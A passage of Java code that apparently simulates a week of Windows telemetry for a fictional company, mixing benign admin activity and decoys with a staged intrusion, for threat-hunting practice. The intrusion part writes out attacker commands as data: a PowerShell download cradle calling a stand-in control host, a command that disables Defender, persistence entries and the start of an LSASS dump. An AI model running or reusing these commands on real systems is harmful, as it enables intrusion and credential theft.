        Week.workingDays().forEach(this::administer);
        installSoftware();
        usePsExec();
        handleAccounts();
        tuneDefender();
    }

    /** Configuration Manager pushes an encoded script in the night, Intune runs files during the day. */
    private void manage(LocalDate day) {
        String script = dice.pick(MANAGEMENT_SCRIPTS);
        estate.all().forEach(host -> manage(host, day, script));
    }

    private void manage(Host host, LocalDate day, String script) {
        if (dice.chance(45)) {
            Instant at = Week.at(day, 2, 0).plusMillis(dice.between(0, 1_500_000));
            Run run = recorder.start(
                    at,
                    resident(host, "Ccm"),
                    "powershell.exe",
                    "\"C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -Noninteractive"
                            + " -NoProfile -ExecutionPolicy Bypass -EncodedCommand "
                            + Scripts.encoded(script));
            finish(at, run, script);
        }
        if (!host.server() && dice.chance(25)) {
            detect(host, dice.during(day, 6, 20));
        }
    }

    private void detect(Host host, Instant at) {
        Run agent = recorder.start(
                at,
                resident(host, "Intune"),
                "AgentExecutor.exe",
                dice.fill(
                        "\"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\agentexecutor.exe\""
                                + " -remediationScript C:\\Windows\\IMECache\\HealthScripts\\{hex}\\detect.ps1",
                        host.owner()));
        Run run = recorder.start(
                at.plusMillis(400),
                agent,
                "powershell.exe",
                dice.fill(
                        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile"
                                + " -executionPolicy bypass -file"
                                + " \"C:\\Windows\\IMECache\\HealthScripts\\{hex}\\detect.ps1\"",
                        host.owner()));
        finish(
                at.plusMillis(400),
                run,
                "$task = Get-ScheduledTask -TaskName 'OneDrive Standalone Update Task*'; if ($task) { exit 0 }");
    }

    private void finish(Instant at, Run powershell, String script) {
        recorder.runScript(at.plusMillis(700), powershell, script);
        if (dice.chance(25)) {
            recorder.load(at.plusMillis(210), powershell, Programs.named("amsi.dll"));
        }
        if (dice.chance(25)) {
            recorder.createPipe(
                    at.plusMillis(350),
                    powershell,
                    "\\PSHost.1339" + dice.hex(4) + "." + powershell.id() + ".DefaultAppDomain.powershell");
        }
        recorder.stop(at.plusMillis(4_100), powershell);
    }

    private void support(LocalDate day) {
        for (int i = 0; i < 3; i++) {
            Host host = dice.pick(estate.workstations());
            Instant at = dice.during(day, 9, 16);
            recorder.logOn(at.minusSeconds(30), host, helpDesk, 10, "Negotiate", "10.20.14.32");
            Run shell = recorder.startAs(
                    at, resident(host, "explorer"), helpDesk, "cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" ");
            lookAround(host, shell, at);
        }
    }

    private void lookAround(Host host, Run shell, Instant at) {
        recorder.start(
                at.plusSeconds(6),
                shell,
                "whoami.exe",
                dice.pick(List.of("whoami  /groups", "whoami", "whoami  /all")));
        recorder.start(at.plusSeconds(15), shell, "ipconfig.exe", "ipconfig  /all");
        net(at.plusSeconds(31), shell, "user " + host.owner().shortName() + " /domain");
        if (dice.chance(40)) {
            net(at.plusSeconds(48), shell, "use G: \\\\NM-FS01\\Sales /persistent:yes");
        }
        if (dice.chance(40)) {
            net(at.plusSeconds(52), shell, "localgroup Administrators");
        }
        if (dice.chance(50)) {
            recorder.start(at.plusSeconds(55), shell, "gpresult.exe", "gpresult  /r /scope user");
        }
        recorder.start(at.plusSeconds(70), shell, "gpupdate.exe", "gpupdate  /force");
        recorder.stop(at.plusSeconds(300), shell);
    }

    /** Like the real one, net.exe hands most commands on to net1.exe. */
    private void net(Instant at, Run parent, String arguments) {
        Scripts.net(recorder, at, parent, "net  " + arguments, arguments);
    }

    private void administer(LocalDate day) {
        Host host = host("NM-WS004");
        Instant at = dice.during(day, 9, 15);
        Run shell = recorder.startAs(
                at,
                resident(host, "explorer"),
                hollis,
                "powershell.exe",
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ");
        recorder.runScript(
                at.plusSeconds(20),
                shell,
                "Get-ADUser -Filter {Enabled -eq $false} -SearchBase 'OU=Leavers,DC=corp,DC=northmere,DC=example'");
        recorder.start(
                at.plusSeconds(60),
                shell,
                "nltest.exe",
                dice.pick(List.of(
                        "\"C:\\Windows\\system32\\nltest.exe\" /sc_query:NORTHMERE",
                        "\"C:\\Windows\\system32\\nltest.exe\" /dsgetdc:northmere")));
        recorder.start(at.plusSeconds(90), shell, "nslookup.exe", "\"C:\\Windows\\system32\\nslookup.exe\" nm-app01");
        recorder.start(
                at.plusSeconds(130), shell, "sc.exe", "\"C:\\Windows\\system32\\sc.exe\" \\\\NM-APP01 query W3SVC");
        recorder.start(
                at.plusSeconds(160),
                shell,
                "schtasks.exe",
                "\"C:\\Windows\\system32\\schtasks.exe\" /query /s NM-FS01 /tn Mirror");
        Run ssh = recorder.start(
                at.plusSeconds(200), shell, "ssh.exe", "\"C:\\Windows\\System32\\OpenSSH\\ssh.exe\" netops@10.20.1.1");
        recorder.connect(at.plusSeconds(201), ssh, "10.20.1.1", 22);
    }

    private void installSoftware() {
        List<List<String>> services = List.of(
                List.of(
                        "Mozilla Maintenance Service",
                        "\"C:\\Program Files (x86)\\Mozilla Maintenance Service\\maintenanceservice.exe\""),
                List.of(
                        "Google Updater Service (GoogleUpdaterService130.0.6679.0)",
                        "\"C:\\Program Files (x86)\\Google\\GoogleUpdater\\130.0.6679.0\\updater.exe\" --system"
                                + " --windows-service --service=update"),
                List.of(
                        "Microsoft Edge Elevation Service (MicrosoftEdgeElevationService)",
                        "\"C:\\Program Files"
                                + " (x86)\\Microsoft\\Edge\\Application\\130.0.2849.80\\elevation_service.exe\""),
                List.of(
                        "MpKslDrv",
                        "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition"
                                + " Updates\\{5E2D1F0A-3B0C-4F5E-9C77-0C2B6D1E4A90}\\MpKslDrv.sys"),
                List.of(
                        "Dell SupportAssist",
                        "\"C:\\Program Files\\Dell\\SupportAssistAgent\\bin\\SupportAssistAgent.exe\""));
        List<List<String>> tasks = List.of(
                List.of(
                        "\\GoogleUpdateTaskMachineUA{8C7E0C4B-7F0E-4C55-B8A8-2E1B4D3C9A10}",
                        "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
                        "/ua /installsource scheduler"),
                List.of(
                        "\\OneDrive Standalone Update Task-{sid}",
                        "C:\\Program Files\\Microsoft OneDrive\\OneDriveStandaloneUpdater.exe",
                        "/reporting"),
                List.of(
                        "\\Adobe Acrobat Update Task",
                        "C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe",
                        ""),
                List.of(
                        "\\MicrosoftEdgeUpdateTaskMachineCore",
                        "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe",
                        "/c"));
        for (int i = 0; i < 22; i++) {
            installService(dice.pick(estate.workstations()), dice.pick(services));
            installTask(dice.pick(estate.workstations()), dice.pick(tasks));
        }
    }

    private void installService(Host host, List<String> service) {
        Instant at = dice.during(dice.pick(Week.days()), 1, 22);
        Run installer =
                recorder.start(at, resident(host, "services"), "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V");
        recorder.createFile(
                at.plusMillis(3_000), installer, dice.fill("C:\\Windows\\Installer\\{hex}.msi", host.owner()));
        recorder.setValue(
                at.plusMillis(5_000),
                resident(host, "services"),
                "HKLM\\System\\CurrentControlSet\\Services\\" + service.get(0) + "\\ImagePath",
                service.get(1));
        recorder.installService(at.plusMillis(5_010), host, service.get(0), service.get(1), "demand start");
    }

    private void installTask(Host host, List<String> task) {
        Instant at = dice.during(dice.pick(Week.days()), 1, 22);
        String name = dice.fill(task.get(0), host.owner());
        recorder.registerTask(at, host, Account.SYSTEM, name, task.get(1), task.get(2));
        recorder.createFile(at.plusMillis(15), resident(host, "Schedule"), "C:\\Windows\\System32\\Tasks" + name);
        recorder.createKey(
                at.plusMillis(20),
                resident(host, "Schedule"),
                "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree" + name);
        if (dice.chance(40)) {
            Run shell = recorder.start(at.minusMillis(900), resident(host, "Ccm"), "cmd.exe", "cmd.exe /c deploy.cmd");
            recorder.start(
                    at.minusMillis(300),
                    shell,
                    "schtasks.exe",
                    "schtasks  /Create /TN \"" + name.substring(1) + "\" /TR \"" + task.get(1)
                            + "\" /SC DAILY /ST 09:00 /RU SYSTEM /F");
        }
    }

    /** The real PsExec, in the hands of the real administrators. */
    private void usePsExec() {
        psExec(november("13T10:22:41.200"), hollis, "NM-WS004", "NM-APP01", "ipconfig /flushdns");
        psExec(november("16T14:05:12.640"), okafor, "NM-WS009", "NM-FS01", "cmd");
        psExec(november("19T09:47:03.880"), hollis, "NM-WS004", "NM-BKP01", "cmd");
    }

    private void psExec(Instant at, Account account, String from, String to, String command) {
        Host source = host(from);
        Host target = host(to);
        Run shell = recorder.startAs(
                at.minusSeconds(40),
                resident(source, "explorer"),
                account,
                "cmd.exe",
                "\"C:\\Windows\\system32\\cmd.exe\" ");
        recorder.start(at, shell, "PsExec64.exe", "PsExec64.exe  \\\\" + to + " -s " + command);
        recorder.logOn(at.plusMillis(300), target, account, 3, "Kerberos", source.address());
        recorder.createFile(at.plusMillis(380), resident(target, "System"), "C:\\Windows\\PSEXESVC.exe");
        recorder.installService(at.plusMillis(500), target, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "demand start");
        Run service = recorder.start(
                at.plusMillis(620), resident(target, "services"), "PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe");
        recorder.createPipe(at.plusMillis(700), service, "\\PSEXESVC");
        recorder.connectPipe(at.plusMillis(760), resident(target, "System"), "\\PSEXESVC");
        recorder.start(at.plusMillis(900), service, "cmd.exe", "\"cmd\" ");
    }

    private void handleAccounts() {
        Host controller = host("NM-DC01");
        recorder.createAccount(
                november("16T09:31:18.410"), controller, helpDesk, "NORTHMERE", "wabbott", Account.DOMAIN_SID + "1204");
        recorder.createAccount(
                november("18T10:02:55.090"),
                controller,
                helpDesk,
                "NORTHMERE",
                "xcalloway",
                Account.DOMAIN_SID + "1205");
        auditDomainAdministrators(controller, november("17T13:15:07.330"));
    }

    /** The identity team's monthly look at the same group that the actor asks for. */
    private void auditDomainAdministrators(Host controller, Instant at) {
        recorder.logOn(at.minusSeconds(20), controller, okafor, 10, "Negotiate", "10.20.14.29");
        Run shell = recorder.startAs(
                at,
                resident(controller, "explorer"),
                okafor,
                "powershell.exe",
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ");
        String arguments = "group \"Domain Admins\" /domain";
        Scripts.net(recorder, at.plusSeconds(12), shell, "\"C:\\Windows\\system32\\net.exe\" " + arguments, arguments);
        Scripts.net(
                recorder,
                at.plusSeconds(40),
                shell,
                "\"C:\\Windows\\system32\\net.exe\" group \"VPN Users\" /domain",
                "group \"VPN Users\" /domain");
    }

    private void tuneDefender() {
        Host backup = host("NM-BKP01");
        Instant at = november("17T11:20:44.120");
        String exclusion = "Add-MpPreference -ExclusionPath 'D:\\Backups'";
        Run shell = recorder.startAs(
                at,
                resident(backup, "explorer"),
                okafor,
                "powershell.exe",
                "powershell.exe -NoProfile -Command \"" + exclusion + "\"");
        recorder.runScript(at.plusMillis(650), shell, exclusion);
        for (String name : List.of("NM-WS002", "NM-WS011", "NM-WS021")) {
            Run defender = resident(host(name), "Defender");
            String value =
                    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring";
            recorder.setValue(dice.during(LocalDate.of(2026, 11, 16), 7, 9), defender, value, "DWORD (0x00000000)");
        }
        installPackageManager(november("16T11:48:09.700"));
    }

    /** A download cradle as the package manager's own instructions print it. */
    private void installPackageManager(Instant at) {
        Host host = host("NM-WS009");
        String script = "iex ((New-Object"
                + " System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))";
        Run shell = recorder.startAs(
                at,
                resident(host, "explorer"),
                okafor,
                "powershell.exe",
                "powershell.exe -NoProfile -InputFormat None -ExecutionPolicy Bypass -Command \"" + script + "\"");
        recorder.runScript(at.plusMillis(500), shell, script);
        Internet.visit(recorder, at.plusMillis(900), shell, "community.chocolatey.org");
    }
}

/** How a call stack that opens another process begins. */
final class Traces {
    static final String OPENING = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|";

    private Traces() {}
}

/** Lists of names, written as running text. */
final class Words {
    private Words() {}

    static List<String> of(String text) {
        return List.of(text.strip().split("\\s+"));
    }
}

/** What several parts of the story share about command lines. */
final class Scripts {
    private Scripts() {}

    static String encoded(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }

    static void net(Recorder recorder, Instant at, Run parent, String commandLine, String arguments) {
        Run net = recorder.start(at, parent, "net.exe", commandLine);
        recorder.start(at.plusMillis(18), net, "net1.exe", "C:\\Windows\\system32\\net1  " + arguments);
    }
}

/** Harmless events that a careless hunt for this article would count. */
final class LookAlikes extends Story {

    LookAlikes(Estate estate, Recorder recorder) {
        super("look-alikes", estate, recorder);
    }

    @Override
    void record() {
        resolveSimilarNames();
        connectToNeighbours();
        runSimilarPrograms();
        installSimilarServices();
        persistSimilarly();
        addTimeSheetToAutostart();
        useScriptHosts();
        useRunDll();
        loadComPlus();
        saveImages();
    }

    /** Names that hold an indicator, or nearly do, without being one or lying below one. */
    private void resolveSimilarNames() {
        List<String> names = List.of(
                "cdn-metrics.com",
                "cdn-metrics.com",
                "cdn-metrics.com",
                "api.cdn-metrics.com",
                "metrics-relay.com",
                "static-cdn-metrics-relay.com",
                "static-cdn-metrics-relay.com",
                "cdn-metrics-relay.company",
                "cdn-metrics-relay.co",
                "parcelnotice.com",
                "parcelnotice-hub.co.uk",
                "assets.parcelnotice.com",
                "quillsync.com",
                "status.quillsync.com");
        for (String name : names) {
            Instant at = dice.during(dice.pick(Week.workingDays()), 9, 17);
            Run chrome = browse(dice.pick(estate.workstations()), at);
            Internet.visit(recorder, at.plusSeconds(7), chrome, name);
        }
        Host host = host("NM-WS018");
        recorder.resolve(
                november("17T15:20:31.004"),
                resident(host, "Dnscache"),
                "cdn-metrics-relay.com.corp.northmere.example",
                "-");
    }

    private Run browse(Host host, Instant at) {
        return recorder.start(
                at,
                resident(host, "explorer"),
                "chrome.exe",
                "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --profile-directory=Default");
    }

    private void connectToNeighbours() {
        for (String address :
                List.of("185.243.218.4", "185.243.218.74", "45.138.203.190", "193.201.177.8", "91.203.145.6")) {
            Host host = dice.pick(estate.workstations());
            Instant at = dice.during(dice.pick(Week.workingDays()), 9, 17);
            recorder.connect(at.plusSeconds(9), browse(host, at), address, 443);
        }
    }

    /** Each of these file names ends with the name of one of the actor's files. */
    private void runSimilarPrograms() {
        for (LocalDate day : Week.workingDays()) {
            for (String name : List.of("NM-WS005", "NM-WS016", "NM-WS022")) {
                Host host = host(name);
                Instant at = dice.during(day, 8, 17);
                recorder.start(
                        at,
                        resident(host, "Schedule"),
                        "IQSUpdate.exe",
                        "\"C:\\Program Files (x86)\\IQ Sensors\\IQSUpdate.exe\" /silent");
                recorder.start(
                        at.plusSeconds(700),
                        resident(host, "explorer"),
                        "cowsync.exe",
                        "\"C:\\Program Files\\CoW Sync\\cowsync.exe\" copy \"D:\\Shares\\Design\" --include \"*.dwg\"");
            }
        }
        Run services = resident(host("NM-APP01"), "services");
        recorder.start(
                november("16T06:00:12.500"), services, "faqsvc.exe", "\"C:\\Program Files\\Helpline\\faqsvc.exe\"");
        saveSimilarFiles();
    }

    private void saveSimilarFiles() {
        Host host = host("NM-WS016");
        Run explorer = resident(host, "explorer");
        List<String> paths = List.of(
                "C:\\Program Files (x86)\\IQ Sensors\\IQSUpdate.exe",
                "C:\\Program Files\\CoW Sync\\cowsync.exe",
                "C:\\Users\\mpetrov\\Documents\\qsupdate.exe.notes.txt",
                "C:\\Users\\mpetrov\\Desktop\\README.txt",
                "C:\\Users\\mpetrov\\Downloads\\ashpelt-road-survey.pdf");
        paths.forEach(path -> recorder.createFile(dice.during(LocalDate.of(2026, 11, 16), 9, 16), explorer, path));
    }

    private void installSimilarServices() {
        Host server = host("NM-APP01");
        recorder.installService(
                november("16T05:59:58.020"),
                server,
                "HelplineFaq",
                "\"C:\\Program Files\\Helpline\\faqsvc.exe\"",
                "auto start");
        Host workstation = host("NM-WS010");
        recorder.installService(
                november("13T12:11:40.300"),
                workstation,
                "QuillHostSvcUpdater",
                "\"C:\\Program Files\\Quill Notes\\quillhost-updater.exe\"",
                "demand start");
    }

    private void persistSimilarly() {
        for (String name : List.of("NM-WS006", "NM-WS010", "NM-WS019")) {
            Host host = host(name);
            Instant at = dice.during(LocalDate.of(2026, 11, 16), 9, 16);
            String run = "HKU\\" + host.owner().sid() + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\";
            recorder.setValue(
                    at,
                    resident(host, "explorer"),
                    run + "QuillTray",
                    "\"C:\\Program Files\\Quill Notes\\quill.exe\" /tray");
            recorder.setValue(
                    at.plusSeconds(60),
                    resident(host, "explorer"),
                    run + "OneDrive",
                    "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background");
            recorder.registerTask(
                    at.plusSeconds(90),
                    host,
                    host.owner(),
                    "\\Quill Notes Update Task",
                    "C:\\Program Files\\Quill Notes\\quill.exe",
                    "--update");
            recorder.createPipe(at.plusSeconds(95), resident(host, "explorer"), "\\qdriver_" + dice.hex(4));
        }
    }

    private void addTimeSheetToAutostart() {
        Host host = host("NM-WS013");
        Instant at = november("13T07:58:12.640");
        String value = "mshta.exe \\\\NM-FS01\\Apps\\timesheet.hta";
        Run reg = recorder.start(
                at,
                resident(host, "explorer"),
                "reg.exe",
                "reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v TimeSheet /t REG_SZ /d \"" + value
                        + "\" /f");
        String key = "HKU\\" + host.owner().sid() + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TimeSheet";
        recorder.setValue(at.plusMillis(21), reg, key, value);
    }

    /** The time sheet is an HTA on the file server. */
    private void useScriptHosts() {
        for (String name : List.of("NM-WS007", "NM-WS013", "NM-WS020")) {
            Host host = host(name);
            Instant at = dice.during(LocalDate.of(2026, 11, 13), 15, 17);
            recorder.start(
                    at,
                    resident(host, "explorer"),
                    "mshta.exe",
                    "\"C:\\Windows\\System32\\mshta.exe\" \"\\\\NM-FS01\\Apps\\timesheet.hta\" ");
        }
    }

    private void useRunDll() {
        List<String> calls = List.of(
                "shell32.dll,Control_RunDLL desk.cpl,,0",
                "shell32.dll,SHCreateLocalServerRunDll {9BA05972-F6A8-11CF-A442-00A0C90A8F39} -Embedding",
                "C:\\Windows\\system32\\shell32.dll,OpenAs_RunDLL",
                "printui.dll,PrintUIEntry /y /n \"\\\\NM-FS01\\Floor2\"",
                "url.dll,FileProtocolHandler https://portal.northmere.example/dump/minutes");
        for (LocalDate day : Week.workingDays()) {
            for (String call : calls) {
                Host host = dice.pick(estate.workstations());
                recorder.start(
                        dice.during(day, 9, 17),
                        resident(host, "explorer"),
                        "rundll32.exe",
                        "\"C:\\Windows\\system32\\rundll32.exe\" " + call);
            }
        }
    }

    /** COM+ applications load comsvcs.dll for good reasons. */
    private void loadComPlus() {
        for (int i = 0; i < 12; i++) {
            Host host = dice.pick(estate.all());
            Instant at = dice.during(dice.pick(Week.days()), 0, 24);
            Run surrogate = recorder.start(
                    at,
                    resident(host, "Dcom"),
                    "dllhost.exe",
                    "C:\\Windows\\system32\\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}");
            recorder.load(at.plusMillis(60), surrogate, Programs.named("comsvcs.dll"));
        }
    }

    private void saveImages() {
        Run chrome = browse(host("NM-WS009"), november("13T14:00:02.110"));
        recorder.createFile(
                november("13T14:03:44.870"), chrome, "C:\\Users\\tokafor\\Downloads\\debian-12.7.0-amd64-netinst.iso");
        Run outlook = recorder.start(
                november("16T13:11:20.640"),
                resident(host("NM-WS012"), "explorer"),
                "OUTLOOK.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ");
        recorder.createFile(
                november("16T13:12:01.220"),
                outlook,
                "C:\\Users\\jpell\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\4K1ZPQ7C\\Consignment_note.pdf");
    }
}

/** The actor's files, with the hashes that the article prints. */
final class Tools {
    static final Program LOADER = Program.of(
                    "C:\\ProgramData\\QuillSync\\qsupdate.exe",
                    "qsupdate.exe",
                    "QuillSync Updater",
                    new Vendor("QuillSync", "QuillSync", "2.3.0.14"))
            .hashed(
                    "208e294bcfc977455fd10b0dff04c902",
                    "c0b4d06a75b7c81be1e1a69a5f8da4291eebb33cf20c3be9e7ed78dc367a99bd");
    static final Program SERVICE = Program.of("C:\\Windows\\qsvc.exe", "-", "-", Vendor.UNKNOWN)
            .hashed(
                    "e87926f5b2d1e1c1c519f1ec9eac1c6a",
                    "7853d2c200912adee4d14361d3fa300bb1fe4c61839e99f19b6ddc8db1530924");
    static final Program RCLONE = Program.of(
                    "C:\\PerfLogs\\wsync.exe",
                    "rclone.exe",
                    "Rclone",
                    new Vendor("https://rclone.org", "Rclone", "1.66.0"))
            .hashed(
                    "91218b30ec6a21a144589a172c93cd42",
                    "e41295e5bf7a98188c29d845aa91e19844bdc80bef03462a643c210f6155da1c");
    /** Built for this victim, so that its hash is not the one in the article. */
    static final Program ENCRYPTOR = Program.of("C:\\Windows\\Temp\\ashpelt.exe", "-", "-", Vendor.UNKNOWN)
            .hashed(
                    "5c3d69ae7907144e606e53010a89f6f0",
                    "f0de43464591c69215159bca8cb21c7c6ff87ca5de5618bc156653756394b8e8");

    private Tools() {}
}

/** The intrusion: NM-WS014 and NM-APP01 on 17 November, NM-APP01 and NM-FS01 in the night after. */
final class Intrusion extends Story {
    private static final String CONTROL_NAME = "cdn-metrics-relay.com";
    private static final String CONTROL_ADDRESS = "185.243.218.47";
    private static final String SERVER_FOLDER = "C:\\Users\\Public\\QuillSync\\";
    private static final String TASK = "QuillSync Update Task";
    private static final String CRADLE =
            "$h=New-Object Net.WebClient;$h.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
                    + " QuillSync/2.3');IEX $h.DownloadString('https://cdn-metrics-relay.com/api/v2/s.ps1')";
    private static final String DEFENDER_OFF = "Set-MpPreference -DisableRealtimeMonitoring $true";

    private final Host workstation;
    private final Host applicationServer;
    private final Host fileServer;
    private final Account victim;
    private final Account stolen = Account.administrator("adm-rhollis", 1151);

    Intrusion(Estate estate, Recorder recorder) {
        super("intrusion", estate, recorder);
        this.workstation = host("NM-WS014");
        this.applicationServer = host("NM-APP01");
        this.fileServer = host("NM-FS01");
        this.victim = workstation.owner().elevated();
    }

    @Override
    void record() {
        Run shell = onWorkstation();
        Run serverShell = onApplicationServer(shell);
        onFileServer(serverShell);
    }

    private Run onWorkstation() {
        saveAttachment();
        Run loader = openShortcut();
        injectPayload(november("17T08:43:13.406"), loader, "\\qdrift_7f31");
        Run shell = recorder.start(november("17T08:44:02.551"), loader, "cmd.exe", "C:\\Windows\\system32\\cmd.exe");
        persistOnWorkstation(shell);
        callHome(november("17T08:43:21.602"), loader, CONTROL_NAME);
        lookAround(shell);
        dumpOnWorkstation(shell);
        recorder.createFile(november("17T10:47:58.306"), loader, "C:\\ProgramData\\QuillSync\\qsvc.exe");
        return shell;
    }

    /** Outlook adds "(002)" to the copy that it opens; the user also saves the attachment. */
    private void saveAttachment() {
        Run outlook = recorder.start(
                november("17T08:31:40.020"),
                resident(workstation, "explorer"),
                "OUTLOOK.EXE",
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ");
        recorder.createFile(
                november("17T08:41:07.733"),
                outlook,
                "C:\\Users\\mlindqvist\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8K2Q1ZPX\\Consignment_77104"
                    + " (002).iso");
        recorder.createFile(
                november("17T08:41:52.190"), outlook, "C:\\Users\\mlindqvist\\Downloads\\Consignment_77104.iso");
    }

    private Run openShortcut() {
        String page = "https://assets.parcelnotice-hub.net/n/wb7/consignment.hta";
        Run mshta = recorder.startIn(
                november("17T08:42:30.118"),
                resident(workstation, "explorer"),
                victim,
                Programs.named("mshta.exe"),
                "\"C:\\Windows\\System32\\mshta.exe\" " + page,
                "E:\\");
        recorder.resolve(november("17T08:42:30.902"), mshta, "assets.parcelnotice-hub.net", "91.203.145.66");
        recorder.connect(november("17T08:42:30.961"), mshta, "91.203.145.66", 443);
        recorder.load(november("17T08:42:31.377"), mshta, Programs.named("vbscript.dll"));
        recorder.createFile(
                november("17T08:42:31.240"),
                mshta,
                "C:\\Users\\mlindqvist\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\QW81RT5M\\consignment[1].hta");
        Run loader = download(november("17T08:42:36.475"), mshta);
        recorder.stop(november("17T08:43:40.009"), mshta);
        return loader;
    }

    private Run download(Instant at, Run mshta) {
        Run powershell = recorder.start(
                at,
                mshta,
                "powershell.exe",
                "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -w hidden -ec "
                        + Scripts.encoded(CRADLE));
        recorder.runScript(at.plusMillis(800), powershell, CRADLE);
        recorder.resolve(at.plusMillis(1_120), powershell, CONTROL_NAME, CONTROL_ADDRESS);
        recorder.connect(at.plusMillis(1_180), powershell, CONTROL_ADDRESS, 443);
        recorder.runScript(
                at.plusMillis(2_400),
                powershell,
                "$d=Join-Path $env:ProgramData 'QuillSync';New-Item $d -ItemType Directory"
                        + " -Force|Out-Null;[IO.File]::WriteAllBytes((Join-Path $d 'qsupdate.exe'),$b);Start-Process"
                        + " (Join-Path $d 'qsupdate.exe') '/init'");
        recorder.createFile(at.plusMillis(3_310), powershell, "C:\\ProgramData\\QuillSync\\qsupdate.exe");
        recorder.createFile(at.plusMillis(3_360), powershell, "C:\\ProgramData\\QuillSync\\qs.cfg");
        Run loader = recorder.start(
                at.plusMillis(33_900), powershell, Tools.LOADER, "\"C:\\ProgramData\\QuillSync\\qsupdate.exe\" /init");
        recorder.stop(at.plusMillis(35_200), powershell);
        return loader;
    }

    private void injectPayload(Instant at, Run loader, String pipe) {
        recorder.createPipe(at, loader, pipe);
        Run surrogate = recorder.start(at.plusMillis(150), loader, "dllhost.exe", "C:\\Windows\\System32\\dllhost.exe");
        recorder.open(
                at.plusMillis(170),
                loader,
                surrogate,
                "0x1FFFFF",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(000001E811820000)");
        recorder.inject(at.plusMillis(190), loader, surrogate, "-", "-");
        recorder.connectPipe(at.plusMillis(420), surrogate, pipe);
    }

    private void persistOnWorkstation(Run shell) {
        Instant at = november("17T08:44:11.206");
        recorder.start(
                at,
                shell,
                "schtasks.exe",
                "schtasks  /Create /TN \"QuillSync Update Task\" /TR \"C:\\ProgramData\\QuillSync\\qsupdate.exe /svc\""
                        + " /SC HOURLY /MO 4 /F");
        registerTask(at.plusMillis(140), workstation, victim, TASK, "C:\\ProgramData\\QuillSync\\qsupdate.exe", "/svc");
        runScheduled(List.of("17T12:44:00.214", "17T16:44:00.187", "17T20:44:00.203", "18T00:44:00.225"));
        Instant later = november("17T08:44:38.871");
        Run reg = recorder.start(
                later,
                shell,
                "reg.exe",
                "reg  add HKCU\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v QuillSyncTray /t REG_SZ /d"
                        + " \"C:\\ProgramData\\QuillSync\\qsupdate.exe /tray\" /f");
        recorder.setValue(
                later.plusMillis(24),
                reg,
                "HKU\\" + victim.sid() + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\QuillSyncTray",
                "C:\\ProgramData\\QuillSync\\qsupdate.exe /tray");
    }

    private void registerTask(Instant at, Host host, Account account, String task, String command, String arguments) {
        Run scheduler = resident(host, "Schedule");
        recorder.registerTask(at, host, account, "\\" + task, command, arguments);
        recorder.createFile(at.plusMillis(11), scheduler, "C:\\Windows\\System32\\Tasks\\" + task);
        String key = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\" + task;
        recorder.createKey(at.plusMillis(14), scheduler, key);
        recorder.setValue(at.plusMillis(15), scheduler, key + "\\Id", "{0D7C5B1E-93A4-4E0B-A6B7-5D1C2F8E7710}");
    }

    private void runScheduled(List<String> moments) {
        for (String moment : moments) {
            Instant at = november(moment);
            Run run = recorder.startAs(
                    at,
                    resident(workstation, "Schedule"),
                    victim,
                    Tools.LOADER,
                    "C:\\ProgramData\\QuillSync\\qsupdate.exe /svc");
            recorder.stop(at.plusMillis(2_700), run);
        }
    }

    /** Until the office notices, every 25 to 40 minutes. */
    private void callHome(Instant first, Run loader, String name) {
        Instant end = november("18T04:20:00");
        for (Instant at = first; at.isBefore(end); at = dice.after(at, 1_500_000, 2_400_000)) {
            recorder.resolve(at, loader, name, CONTROL_ADDRESS);
            recorder.connect(at.plusMillis(47), loader, CONTROL_ADDRESS, 443, at.equals(first) ? name : "-");
        }
    }

    private void lookAround(Run shell) {
        recorder.start(november("17T09:21:14.390"), shell, "whoami.exe", "whoami  /all");
        recorder.start(november("17T09:22:03.815"), shell, "nltest.exe", "nltest  /dclist:");
        recorder.start(november("17T09:22:41.007"), shell, "nltest.exe", "nltest  /domain_trusts /all_trusts");
        String arguments = "group \"Domain Admins\" /domain";
        Scripts.net(recorder, november("17T09:24:19.662"), shell, "net  " + arguments, arguments);
    }

    private void dumpOnWorkstation(Run shell) {
        Run lsass = resident(workstation, "lsass");
